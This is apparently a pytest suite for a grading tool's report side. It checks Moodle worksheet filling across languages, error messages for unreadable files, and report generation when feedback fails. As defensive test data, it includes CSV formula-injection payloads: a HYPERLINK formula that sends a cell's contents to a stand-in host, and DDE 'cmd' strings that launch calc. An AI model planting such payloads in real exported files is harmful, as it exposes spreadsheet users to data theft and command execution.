"""Red-team grading, the report side: Moodle's own worksheet in the instructor's language is
filled and nothing else changes, no CSV we write runs a learner's name as a formula, a
worksheet we cannot read says what was expected, and the reports exist even when feedback
fails for a learner.

Learners are synthetic. Worksheets are built here as Moodle would give them, from the language
strings servicecourse.grading.reports cites; a Finnish string we could not find in any source
is a stand-in marked ``fi:<string id>`` (never a guess): detection must not need it.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from servicecourse.grading import reports
from servicecourse.grading.journal import Outcome
from servicecourse.grading.pipeline import ClassRun
from servicecourse.paths import CourseError, GradingCourse

MODULE = "01_intro"

# Column headers of Moodle's download (mod/assign/gradingtable.php, in that order) and the
# identifier prefix, per language; the sources are listed in servicecourse/grading/reports.py.
EN = {
    "recordid": "Identifier",
    "hiddenuser": "Participant ",
    "fullname": "Full name",
    "status": "Status",
    "grade": "Grade",
    "maxgrade": "Maximum Grade",
    "lastmodifiedsubmission": "Last modified (submission)",
    "lastmodifiedgrade": "Last modified (grade)",
    "feedback": "Feedback comments",
}
SV = {
    "recordid": "Identifierare",
    "hiddenuser": "Deltagare",
    "fullname": "Hela namnet",
    "status": "Status",
    "grade": "Betyg",
    "maxgrade": "Maxbetyg",
    "lastmodifiedsubmission": "Senast modifierat (inlämning)",
    "lastmodifiedgrade": "Senast modifierat (betyg)",
    "feedback": "Återkopplingskommentarer",
}
FI = {  # 'grade' and 'fullname': Finnish core pack; the rest are stand-ins (not found)
    "recordid": "fi:recordid",
    "hiddenuser": "fi:hiddenuser ",
    "fullname": "Koko nimi",
    "status": "fi:status",
    "grade": "Arviointi",
    "maxgrade": "fi:maxgrade",
    "lastmodifiedsubmission": "fi:lastmodifiedsubmission",
    "lastmodifiedgrade": "fi:lastmodifiedgrade",
    "feedback": "fi:pluginname(assignfeedback_comments)",
}
FI_UNKNOWN_GRADE = {**FI, "grade": "fi:grade"}  # a grade header in a language we do not know

STAMP = "Monday, 1 January 2024, 9:00 AM"


def _field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\r\n') else value


def worksheet(strings, rows, *, newline="\n", bom=False, comma=False) -> bytes:
    """A grading worksheet as Moodle's download writes it. ``rows``: (participant, name,
    grade, feedback, when the grade was last changed in Moodle); the maximum grade is 5."""
    number = (lambda text: text.replace(".", ",")) if comma else (lambda text: text)
    lines = [[strings[k] for k in EN if k != "hiddenuser"]]
    for ident, name, grade, feedback, modified in rows:
        lines.append(
            [
                f"{strings['hiddenuser']}{ident}",
                name,
                "-",
                number(grade),
                number("5.00"),
                STAMP,
                modified,
                feedback,
            ]
        )
    text = newline.join(",".join(_field(v) for v in line) for line in lines) + newline
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8")


def grades(*rows) -> reports.ModuleGrades:
    """Per learner: (student, score, max_score, needs_manual_grade), as the gradebook holds it."""
    return reports.ModuleGrades(
        MODULE,
        pd.DataFrame(rows, columns=["student", "score", "max_score", "needs_manual_grade"]),
        pd.DataFrame(columns=["student", "check", "score", "max_score"]),
    )


CLASS = grades(
    ("p1000001", 7.0, 10.0, False),
    ("p1000002", 0.0, 10.0, True),
    ("p1000009", 10.0, 10.0, False),  # graded, not in the worksheet
    ("s00", 10.0, 10.0, False),  # not from Moodle at all
)
UNTOUCHED = ("1000003", "Mikko Nieminen", "4.50", 'Hyvä "työ"\nJatka, samaan malliin', STAMP)


@pytest.mark.parametrize(
    "strings, options",
    [
        (EN, {}),
        (SV, {"newline": "\r\n"}),
        (FI, {"newline": "\r\n", "bom": True, "comma": True}),
        (FI_UNKNOWN_GRADE, {"comma": True}),
    ],
    ids=["en", "sv", "fi", "fi-unknown-grade-header"],
)
def test_moodle_worksheet_is_filled_and_every_other_byte_kept(tmp_path, strings, options):
    given = tmp_path / "worksheet.csv"
    before = [
        ("1000001", "Aino Virtanen", "", "", "-"),
        ("1000002", "Pekka Korhonen", "", "", "-"),
        UNTOUCHED,
    ]
    given.write_bytes(worksheet(strings, before, **options))
    original = given.read_bytes()
    filled = reports.fill_moodle_worksheet(CLASS, given, tmp_path / "out.csv")
    assert given.read_bytes() == original  # the instructor's download is never changed
    comment_known = strings["feedback"] in reports.WORKSHEET_FEEDBACK.values()
    after = [
        (
            "1000001",
            "Aino Virtanen",
            "3.50",  # 7 of 10 points on Moodle's scale of 5
            "Autograded 7 / 10 points." if comment_known else "",
            "-",  # Moodle's own: the import compares it with its grade's time
        ),
        (
            "1000002",
            "Pekka Korhonen",
            "0.00",
            "Autograded 0 / 10 points. Some answers are still to be graded by hand."
            if comment_known
            else "",
            "-",
        ),
        UNTOUCHED,
    ]
    assert filled.path.read_bytes() == worksheet(strings, after, **options)
    assert filled.filled == ["p1000001", "p1000002"]
    assert filled.left_out == ["p1000009", "s00"]
    if not comment_known:
        assert any("feedback comments column" in note for note in filled.notes)
    if strings is FI_UNKNOWN_GRADE:
        assert any("Moodle's column order" in note for note in filled.notes)


def test_learner_we_did_not_grade_keeps_their_row(tmp_path):
    given = tmp_path / "worksheet.csv"
    given.write_bytes(worksheet(EN, [UNTOUCHED]))
    filled = reports.fill_moodle_worksheet(grades(), given, tmp_path / "out.csv")
    assert filled.path.read_bytes() == given.read_bytes()
    assert filled.filled == [] and filled.left_out == []


def test_worksheet_of_another_assignment_is_noticed(tmp_path):
    given = tmp_path / "worksheet.csv"
    given.write_bytes(worksheet(EN, [UNTOUCHED]))
    filled = reports.fill_moodle_worksheet(CLASS, given, tmp_path / "out.csv")
    assert any("is it the worksheet of this module" in note for note in filled.notes)
    assert filled.left_out == ["p1000001", "p1000002", "p1000009", "s00"]


@pytest.mark.parametrize(
    "content, expected",
    [
        ("Voilà".encode("latin-1"), "not UTF-8"),
        (b"Name,Grade,Email\nAino,5,a@x\nPekka,4,p@x\n", "no column holds participant"),
        (b"Identifier,Name,Points\nParticipant 1,Aino,x\n", "which column is the grade"),
        (b'Identifier,"Name\nParticipant 1,Aino\n', "never ends"),
        (b"", "not a Moodle grading worksheet"),
    ],
    ids=["not-utf8", "no-identifiers", "no-grade", "broken-quote", "empty"],
)
def test_worksheet_we_cannot_read_says_what_was_expected(tmp_path, content, expected):
    given = tmp_path / "worksheet.csv"
    given.write_bytes(content)
    with pytest.raises(CourseError, match=expected) as error:
        reports.fill_moodle_worksheet(CLASS, given, tmp_path / "out.csv")
    if expected != "never ends":
        assert "Download grading worksheet" in str(error.value)
    assert not (tmp_path / "out.csv").exists()


EVIL_NAMES = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+cmd|' /C calc'!A0"]


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _unsafe(path: Path) -> list[str]:
    return [cell for cell in _cells(path) if reports.safe_cell(cell) != cell]


def test_formula_in_a_name_or_note_is_neutralised_in_every_csv(tmp_path, monkeypatch):
    course = tmp_path / "course"
    course.mkdir()
    with open(GradingCourse(course).students_file, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["student_id", "full_name", "moodle_folder"])
        writer.writerow(["p1000001", EVIL_NAMES[0], "x"])
        writer.writerow(["p1000002", EVIL_NAMES[1], "y"])
    evil = grades(("p1000001", 7.0, 10.0, False), ("p1000002", -1.0, 10.0, False))
    # the English worksheet we write
    sheet, _ = reports.write_moodle_csv(evil, course, tmp_path / "fresh.csv")
    assert _unsafe(sheet) == [] and {"'" + n for n in EVIL_NAMES} <= set(_cells(sheet))
    # Moodle's own worksheet: a name Moodle gives is display-only and neutralised too
    given = tmp_path / "given.csv"
    given.write_bytes(worksheet(EN, [("1000001", EVIL_NAMES[0], "", "", "-")]))
    filled = reports.fill_moodle_worksheet(evil, given, tmp_path / "filled.csv")
    assert _unsafe(filled.path) == [] and "'" + EVIL_NAMES[0] in _cells(filled.path)
    # the summary's tables: notes, reasons, student ids; a score of -1 stays the number -1
    monkeypatch.setattr(reports, "module_grades", lambda *_a, **_k: evil)
    run = ClassRun(
        [
            Outcome(MODULE, "p1000001", True, notes=["@SUM(1+1)*cmd|' /C calc'!A0"]),
            Outcome(MODULE, "=evil", False, reason="-2+3+cmd|' /C calc'!A0"),
        ],
        workers=1,
        seconds=1.0,
    )
    out = tmp_path / "reports"
    reports.class_summary(run, course, out, feedback_failed={(MODULE, "p1000002"): "=1+1"})
    written = sorted(out.glob("*.csv"))
    assert {p.name for p in written} >= {
        "not_graded.csv",
        "submission_notes.csv",
        "feedback_not_made.csv",
        f"{MODULE}_scores.csv",
        f"{MODULE}_checks.csv",
    }
    for path in written:
        assert _unsafe(path) == [], path
    scores = pd.read_csv(out / f"{MODULE}_scores.csv")
    assert scores.score.tolist() == [7.0, -1.0]  # numbers, not text
    # nbgrader's CSV export, made safe after it is written
    export = tmp_path / "grades.csv"
    export.write_text(f"student_id,first_name,score\np1,{_field(EVIL_NAMES[0])},-1.0\n")
    reports.make_csv_safe(export)
    assert _unsafe(export) == [] and "-1.0" in _cells(export)


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    for value in [-1, -1.5, 0.0, "-1", "+3.5", "1e-3", "-", "Aino", "", None]:
        assert reports.safe_cell(value) == value
    for value in ["=1+1", "@A1", "+cmd", "-2+3", "\t=1", "\r=1", "-x"]:
        assert reports.safe_cell(value) == "'" + value


# --- a real grading run: reports come first, one learner's feedback failure is a note ---------


@pytest.mark.slow
def test_reports_exist_when_feedback_fails_for_a_learner(tmp_path, monkeypatch):
    from test_class_grading import MODULE as REAL_MODULE
    from test_class_grading import QUICK, _small_class

    from servicecourse import grading
    from servicecourse.grading import class_grading, sandbox

    if sandbox.sandbox_problem() is not None:
        pytest.skip("no sandbox: make grading-tools")
    course = _small_class(tmp_path, 2)
    out = tmp_path / "reports"
    real_feedback = class_grading.nbg.feedback
    seen = []

    def feedback(module, course_, students=None, gradebook_url=None):
        # every report is already written when feedback starts
        for name in ("summary.html", "grades.csv", f"{REAL_MODULE.name}_moodle.csv"):
            assert (out / name).exists(), name
        seen.extend(students)
        if students == ["s00"]:
            raise RuntimeError("nbconvert stalled on a hostile notebook")
        return real_feedback(module, course_, students=students, gradebook_url=gradebook_url)

    monkeypatch.setattr(class_grading.nbg, "feedback", feedback)
    log = io.StringIO()
    result = grading.grade_a_class(
        [REAL_MODULE],
        course,
        report_dir=out,
        workers=2,
        limits=QUICK,
        progress=False,
        log=lambda text: log.write(text + "\n"),
    )
    assert seen == ["s00", "s01"]  # one learner at a time; the failure did not stop the next
    assert set(result.feedback_failed) == {(REAL_MODULE.name, "s00")}
    assert "nbconvert stalled" in result.feedback_failed[(REAL_MODULE.name, "s00")]
    assert "feedback for s00" in log.getvalue()
    assert list((course / "feedback" / "s01").rglob("*.html"))
    assert not (course / "feedback" / "s00").exists()
    page = result.summary_page.read_text()
    assert "Feedback could not be made for" in page and "nbconvert stalled" in page
    with open(out / "feedback_not_made.csv", newline="") as handle:
        assert [r["student"] for r in csv.DictReader(handle)] == ["s00"]
    assert result.grades_csv.exists() and result.moodle_sheets[REAL_MODULE.name].exists()
